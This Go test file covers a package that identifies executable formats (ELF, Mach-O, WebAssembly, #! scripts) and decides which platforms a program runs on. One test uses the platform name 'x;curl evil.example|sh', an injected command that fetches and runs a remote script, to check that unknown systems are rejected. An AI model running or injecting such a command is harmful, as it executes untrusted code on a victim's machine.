package machine

import (
	"encoding/binary"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/guardrails-ci/guardrails/tasks/platformbuild/platform"
)

func TestSniffOther(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		head string
		want Program
	}{
		"nothing":     {"", Program{Broken: "it is empty"}},
		"text":        {"hello", Program{}},
		"zeros":       {strings.Repeat("\x00", 5000), Program{}},
		"java class":  {"\xca\xfe\xba\xbe\x00\x00\x00\x41rest", Program{}},
		"WebAssembly": {"\x00asm\x01\x00\x00\x00", Program{Format: WASM, Platforms: []platform.Platform{{Arch: "wasm"}}}},
		"Git LFS": {"version https://git-lfs.github.com/spec/v1\noid sha256:aa\nsize 3\n",
			Program{Broken: "it is a Git LFS pointer, not the file itself"}},
		"byte order mark": {"\xef\xbb\xbf#!/bin/sh\n",
			Program{Format: Script, Broken: "it begins with a byte order mark, so its #! line does not count"}},
		"byte order mark of a text": {"\xef\xbb\xbfhello", Program{}},
	} {
		if diff := cmp.Diff(tc.want, Sniff([]byte(tc.head))); diff != "" {
			t.Errorf("%s: Sniff(%q) (-want +got):\n%s", name, tc.head, diff)
		}
	}
}

func TestSniffScript(t *testing.T) {
	t.Parallel()
	carriage := "its #! line ends with a carriage return, as Windows editors write it"
	for head, want := range map[string]Program{
		"#!/bin/sh\necho":                    {Shebang: []string{"/bin/sh"}},
		"#!/bin/sh":                          {Shebang: []string{"/bin/sh"}},
		"#! \t/bin/sh  -e \t\n":              {Shebang: []string{"/bin/sh", "-e"}},
		"#!/usr/bin/env -S python3 -u\n":     {Shebang: []string{"/usr/bin/env", "-S", "python3", "-u"}},
		"#!/bin/sh\r\n":                      {Shebang: []string{"/bin/sh"}, Broken: carriage},
		"#!/usr/bin/env bash\r\n":            {Shebang: []string{"/usr/bin/env", "bash"}, Broken: carriage},
		"#!/bin/sh\rx\n":                     {Shebang: []string{"/bin/sh\rx"}},
		"#!\n":                               {Broken: "its #! line names no interpreter"},
		"#!":                                 {Broken: "its #! line names no interpreter"},
		"#! \t \n/bin/sh\n":                  {Broken: "its #! line names no interpreter"},
		"#!\r\n":                             {Broken: "its #! line names no interpreter"},
		"#!\x00/bin/sh\n":                    {Broken: "its #! line names no interpreter"},
		"#!/bin/sh\x00more\n":                {Shebang: []string{"/bin/sh"}},
		"#!/" + strings.Repeat("a", 253):     {Broken: "the name of its interpreter is too long"},
		"#!/" + strings.Repeat("a", 252):     {Shebang: []string{"/" + strings.Repeat("a", 252)}},
		"#!/" + strings.Repeat("a", 9999):    {Broken: "the name of its interpreter is too long"},
		"#!/a " + strings.Repeat("b", 9999):  {Shebang: []string{"/a", strings.Repeat("b", 251)}},
		"#!\xff\xfe\x7f relative \x1b[31m\n": {Shebang: []string{"\xff\xfe\x7f", "relative", "\x1b[31m"}},
	} {
		want.Format = Script
		if diff := cmp.Diff(want, Sniff([]byte(head))); diff != "" {
			t.Errorf("Sniff(%.80q) (-want +got):\n%s", head, diff)
		}
	}
}

func TestSniffMachO(t *testing.T) {
	t.Parallel()
	thin := func(order binary.ByteOrder, magic, cpu, kind uint32) string {
		var b []byte
		for _, n := range []uint32{magic, cpu, 0, kind} {
			b = binary.NativeEndian.AppendUint32(b, 0)
			order.PutUint32(b[len(b)-4:], n)
		}
		return string(b)
	}
	fat := func(magic uint32, size int, cpus ...uint32) string {
		b := binary.BigEndian.AppendUint32(nil, magic)
		b = binary.BigEndian.AppendUint32(b, uint32(len(cpus)))
		for _, cpu := range cpus {
			b = binary.BigEndian.AppendUint32(b, cpu)
			b = append(b, make([]byte, size-4)...)
		}
		return string(b)
	}
	darwin := func(arches ...string) (list []platform.Platform) {
		for _, arch := range arches {
			list = append(list, platform.Platform{OS: "darwin", Arch: arch})
		}
		return list
	}
	little, big := binary.LittleEndian, binary.BigEndian
	for name, tc := range map[string]struct {
		head string
		want Program
	}{
		"64 bits":     {thin(little, 0xfeedfacf, 0x0100000c, 2), Program{Platforms: darwin("arm64")}},
		"32 bits":     {thin(little, 0xfeedface, 7, 2), Program{Platforms: darwin("386")}},
		"big endian":  {thin(big, 0xfeedface, 18, 2), Program{Platforms: darwin("ppc")}},
		"library":     {thin(little, 0xfeedfacf, 0x01000007, 6), Program{Platforms: darwin("amd64"), Library: true}},
		"bundle":      {thin(little, 0xfeedfacf, 0x01000007, 8), Program{Platforms: darwin("amd64"), Library: true}},
		"unknown":     {thin(little, 0xfeedfacf, 99, 2), Program{Platforms: darwin("machine-99")}},
		"object":      {thin(little, 0xfeedfacf, 7, 1), Program{Platforms: darwin("386"), Broken: "its header does not say that it is a program"}},
		"cut":         {thin(little, 0xfeedfacf, 7, 2)[:15], Program{Broken: "its header is cut"}},
		"magic only":  {"\xfe\xed\xfa\xce", Program{Broken: "its header is cut"}},
		"fat":         {fat(0xcafebabe, 20, 0x01000007, 0x0100000c), Program{Platforms: darwin("amd64", "arm64")}},
		"fat 64":      {fat(0xcafebabf, 32, 0x01000007, 0x0100000c), Program{Platforms: darwin("amd64", "arm64")}},
		"fat, cut":    {fat(0xcafebabe, 20, 7, 7)[:47], Program{Broken: "its header is cut"}},
		"fat, none":   {fat(0xcafebabe, 20), Program{Broken: "its header is cut"}},
		"fat, no end": {"\xca\xfe\xba\xbe", Program{Broken: "its header is cut"}},
	} {
		tc.want.Format = MachO
		if diff := cmp.Diff(tc.want, Sniff([]byte(tc.head))); diff != "" {
			t.Errorf("%s: Sniff(%q) (-want +got):\n%s", name, tc.head, diff)
		}
	}
}

func TestRunsOn(t *testing.T) {
	t.Parallel()
	elf := func(os, arch string) Program {
		return Program{Format: ELF, Platforms: []platform.Platform{{OS: os, Arch: arch}}}
	}
	universal := Program{Format: MachO, Platforms: []platform.Platform{{OS: "darwin", Arch: "amd64"}, {OS: "darwin", Arch: "arm64"}}}
	broken := elf("", "amd64")
	broken.Broken = "it is cut"
	for name, tc := range map[string]struct {
		p    Program
		on   string
		want bool
	}{
		"same":             {elf("", "amd64"), "linux/amd64", true},
		"other processor":  {elf("", "arm64"), "linux/amd64", false},
		"reverse":          {elf("", "amd64"), "linux/arm64", false},
		"newer variant":    {elf("", "amd64"), "linux/amd64/v3", true},
		"arm variants":     {elf("", "arm"), "linux/arm/v6", true},
		"32 on 64 bits":    {elf("", "386"), "linux/amd64", true},
		"64 on 32 bits":    {elf("", "amd64"), "linux/386", false},
		"x32":              {elf("", "x32"), "linux/amd64", false},
		"arm on arm64":     {elf("", "arm"), "linux/arm64", false},
		"byte order":       {elf("", "ppc64"), "linux/ppc64le", false},
		"signed Linux":     {elf("linux", "amd64"), "linux/amd64", true},
		"FreeBSD on Linux": {elf("freebsd", "amd64"), "linux/amd64", false},
		"plain on FreeBSD": {elf("", "amd64"), "freebsd/amd64", true},
		"ELF on Windows":   {elf("", "amd64"), "windows/amd64", false},
		"ELF on darwin":    {elf("", "arm64"), "darwin/arm64", false},
		"universal":        {universal, "darwin/arm64", true},
		"Mac on Linux":     {universal, "linux/arm64", false},
		"WebAssembly":      {Sniff([]byte("\x00asm")), "wasip1/wasm", true},
		"wasm on Linux":    {Sniff([]byte("\x00asm")), "linux/amd64", false},
		"broken":           {broken, "linux/amd64", false},
		"script":           {Sniff([]byte("#!/bin/sh\n")), "linux/amd64", false},
		"unknown":          {Program{}, "linux/amd64", false},
	} {
		on, err := platform.Parse(tc.on)
		if err != nil {
			t.Fatal(err)
		}
		if got := tc.p.RunsOn(on); got != tc.want {
			t.Errorf("%s: (%s).RunsOn(%s) = %v, want %v", name, tc.p, on, got, tc.want)
		}
	}
}

// A platform's name can be any text of a registry.
func TestNothingRunsOnAnUnknownSystem(t *testing.T) {
	t.Parallel()
	p := Program{Format: ELF, Platforms: []platform.Platform{{Arch: "amd64"}}}
	for _, os := range []string{"", "x;curl evil.example|sh", "Linux", "plan9"} {
		if p.RunsOn(platform.Platform{OS: os, Arch: "amd64"}) {
			t.Errorf("(%s).RunsOn(%q) = true", p, os)
		}
	}
}

func TestString(t *testing.T) {
	t.Parallel()
	for want, p := range map[string]Program{
		"ELF linux/arm64":                  {Format: ELF, Platforms: []platform.Platform{{Arch: "arm64"}}},
		"ELF freebsd/arm64":                {Format: ELF, Platforms: []platform.Platform{{OS: "freebsd", Arch: "arm64"}}},
		"Mach-O darwin/amd64+darwin/arm64": {Format: MachO, Platforms: []platform.Platform{{OS: "darwin", Arch: "amd64"}, {OS: "darwin", Arch: "arm64"}}},
		"WebAssembly wasm":                 {Format: WASM, Platforms: []platform.Platform{{Arch: "wasm"}}},
		"script":                           {Format: Script},
		"":                                 {},
	} {
		if got := p.String(); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}
